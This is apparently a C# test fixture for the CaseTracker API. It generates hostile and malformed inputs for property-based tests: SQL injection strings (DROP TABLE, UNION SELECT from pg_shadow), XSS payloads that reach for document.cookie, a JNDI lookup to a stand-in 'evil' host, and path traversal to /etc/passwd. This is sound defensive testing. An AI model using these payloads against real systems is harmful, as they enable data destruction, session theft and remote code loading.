using System.Text;
using System.Text.Json;
using FsCheck;
using FsCheck.Fluent;

namespace CaseTracker.Api.Tests.Security.Hostile;

/// <summary>
/// What attackers and broken clients send, as generators. Fragments are raw JSON text; a fragment may
/// carry <see cref="InvalidUtf8"/>, which becomes bytes that are not UTF-8 when the body is encoded.
/// </summary>
public static class HostileValues
{
    public const string InvalidUtf8 = "\uE000INVALID\uE000";

    public static readonly string[] Injections =
    [
        "'; DROP TABLE casetracker.mt_events; --", "' OR '1'='1", "\" OR 1=1 --", "1; SELECT pg_sleep(10)", "$$; delete from mt_streams; $$",
        "\\'; --", "%' AND 1=0 UNION SELECT password FROM pg_shadow --", "Robert'); DROP TABLE Students;--",
        "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)",
        "{{7*7}}", "${jndi:ldap://evil/a}", "../../../../etc/passwd", "%00%0d%0a", "\u202Eevil\u202C", "data->>'text'", "@@version",
    ];

    /// <summary>Codes that look like ours and are not (codes match exactly).</summary>
    public static readonly string[] UnknownCodes = ["banned", "Suspended", "SUSPENDED", "suspended;", "sus pended", "0", "-1", "null", "🙂", "account\u0000", "legal-compliance"];

    public static readonly string[] ImpossibleDates =
    [
        "2021-02-30", "2020-13-01", "2020-00-10", "2019-02-29", "0000-00-00", "9999-99-99", "--02-30", "--13-01", "2020-06-07T00:00:00Z",
        "2020/06/07", "07.06.2020", "June 7", "２０２０-０６-０７", "2999-01-01", "-2020-01-01", "+2020", "20200607", "2020-6-7", " 2020-06-07", "",
    ];

    public static readonly string[] BadUrls = ["javascript:alert(1)", "http://", "ftp://example.org/a", "//example.org", "http://[::1", "not a url", "file:///etc/passwd", "data:text/html,<script>"];

    /// <summary>Numbers that are out of every range we take: negative, zero, fractional, beyond long and double.</summary>
    public static readonly string[] BadNumbers =
    [
        "-1", "0", "-9223372036854775809", "9223372036854775808", "99999999999999999999999999", "1e400", "-1e400", "1.5", "1e-400", "NaN", "Infinity", "0x10", "01", "+1",
    ];

    public static Gen<string> ControlCharacters =>
        Gen.Choose(0, 0x1F).Select(c => (char)c).Or(Gen.Elements('\u007F', '\u0085', '\u2028', '\uFEFF'))
            .Select(c => $"before{c}after");

    /// <summary>Escaped UTF-16 surrogates that do not pair: valid JSON syntax, not valid Unicode.</summary>
    public static readonly string[] LoneSurrogates = [@"\ud800", @"\udfff", @"x\udc00y", @"\ud83d", @"\ude00\ud83d", @"\ud800\ud800"];

    /// <summary>Byte sequences that are not UTF-8: stray continuation, overlong, encoded surrogate, beyond U+10FFFF, truncated.</summary>
    public static readonly byte[][] InvalidUtf8Sequences =
    [
        [0x80], [0xBF], [0xC0, 0xAF], [0xC3, 0x28], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80],
        [0xFE], [0xFF], [0xE2, 0x82], [0xF0, 0x9F, 0x98],
    ];

    /// <summary>A JSON string literal holding the text, escaped or raw UTF-8 as the generator chose.</summary>
    public static string Literal(string text, bool escapeNonAscii) =>
        escapeNonAscii ? JsonSerializer.Serialize(text) : JsonSerializer.Serialize(text, RawUtf8);

    private static readonly JsonSerializerOptions RawUtf8 = new() { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    /// <summary>Any hostile string value, as a JSON literal (or raw text that is not one).</summary>
    public static Gen<Fragment> StringFragments(int limit) => Gen.OneOf(
        Gen.Elements(Injections).Select(s => Fragment.Text(s, $"injection {s}")),
        Gen.Elements(UnknownCodes).Select(s => Fragment.Text(s, $"unknown code {s}")),
        Gen.Elements(ImpossibleDates).Select(s => Fragment.Text(s, $"impossible date {s}")),
        Gen.Elements(BadUrls).Select(s => Fragment.Text(s, $"bad url {s}")),
        ControlCharacters.Select(s => Fragment.Text(s, "control character")),
        Gen.Choose(limit + 1, limit + 3000).Select(n => Fragment.Text(new string('x', n), $"{n} characters") with { TooLong = true }),
        Gen.Elements(LoneSurrogates).Select(s => new Fragment($"\"{s}\"", "lone surrogate", Malformed: true)),
        Gen.Constant(new Fragment($"\"a{InvalidUtf8}b\"", "invalid UTF-8", Malformed: true)),
        UnicodeText.Select(s => Fragment.Text(s, "valid Unicode")));

    /// <summary>Values of the wrong JSON type for a string field, or broken JSON.</summary>
    public static Gen<Fragment> WrongTypes => Gen.OneOf(
        Gen.Elements(BadNumbers.Where(n => !n.StartsWith('N') && !n.StartsWith('I') && !n.StartsWith('0') && !n.StartsWith('+')).ToArray())
            .Select(n => new Fragment(n, $"number {n}", WrongType: true)),
        Gen.Elements("true", "false", "[]", "[\"a\"]", "{}", "{\"a\":1}").Select(v => new Fragment(v, $"wrong type {v}", WrongType: true)),
        Gen.Elements("NaN", "Infinity", "0x10", "01", "+1", "'single'", "undefined", "\"unterminated", "{", "[1,", "\"a\" \"b\"").Select(v => new Fragment(v, $"not JSON {v}", Malformed: true)),
        Gen.Choose(65, 400).Select(depth => new Fragment(new string('[', depth) + new string(']', depth), $"nested {depth} deep", Malformed: true)));

    /// <summary>Text a person could really write: any valid Unicode outside control characters, with the injections mixed in.</summary>
    public static Gen<string> UnicodeText =>
        Gen.OneOf(
                Gen.Elements(Injections),
                Gen.ArrayOf(Gen.OneOf(
                        Gen.Choose(0x20, 0x7E).Select(c => ((char)c).ToString()),
                        Gen.Choose(0xA0, 0xD7FF).Select(c => ((char)c).ToString()),
                        Gen.Choose(0xE000, 0xFFFD).Select(c => ((char)c).ToString()),
                        Gen.Choose(0x10000, 0x10FFFF).Select(char.ConvertFromUtf32),
                        Gen.Elements("é", "e\u0301", "👩🏽‍⚖️", "中文", "עברית", "العربية", "\t", "\n", "\r\n", "\u200B", "\u202E", "\uFEFF", "\\", "\"", "'", "%", "_"))
                    , 300)
                    .Select(parts => string.Concat(parts)))
            .Where(s => s.Trim().Length > 0 && s.Length <= 5000);
}

/// <summary>
/// A JSON fragment put where a value goes. Malformed: not valid JSON or Unicode (must be refused);
/// WrongType: valid JSON of the wrong type (must be refused); TooLong: over the field's limit.
/// </summary>
public sealed record Fragment(string Json, string What, bool Malformed = false, bool WrongType = false, bool TooLong = false)
{
    public string? TextValue { get; init; }

    public static Fragment Text(string text, string what) => new(HostileValues.Literal(text, text.Length % 2 == 0), what) { TextValue = text };

    public static byte[] Encode(string body, byte[] invalid)
    {
        var bytes = new List<byte>();
        var parts = body.Split(HostileValues.InvalidUtf8);
        for (var i = 0; i < parts.Length; i++)
        {
            if (i > 0) bytes.AddRange(invalid);
            bytes.AddRange(Encoding.UTF8.GetBytes(parts[i]));
        }
        return bytes.ToArray();
    }
}
